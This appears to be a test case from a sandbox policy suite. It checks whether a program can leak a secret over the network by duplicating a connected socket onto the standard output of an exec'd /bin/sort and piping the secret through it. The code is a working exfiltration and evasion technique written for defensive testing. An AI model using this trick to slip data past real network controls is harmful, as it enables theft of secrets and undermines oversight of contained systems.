# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: a program's standard output, which it writes to by stdio, is a socket that is connected
#   after the
#   program began
# proof: word
# needs: resolver
import fcntl
import os
import socket

from attack import SECRET, at_allowed, attempt


def say(place):
    out = socket.socket()
    begin, end = os.pipe()
    if os.fork() == 0:
        try:
            os.close(end)
            os.dup2(begin, 0)
            os.close(1)
            fcntl.fcntl(out.fileno(), fcntl.F_DUPFD, 1)
            os.execv("/bin/sort", ["sort"])
        finally:
            os._exit(1)
    os.close(begin)
    out.connect(place)
    os.write(end, SECRET.encode())
    os.close(end)
    os.wait()


@attempt
def send():
    return at_allowed(say, first=False)
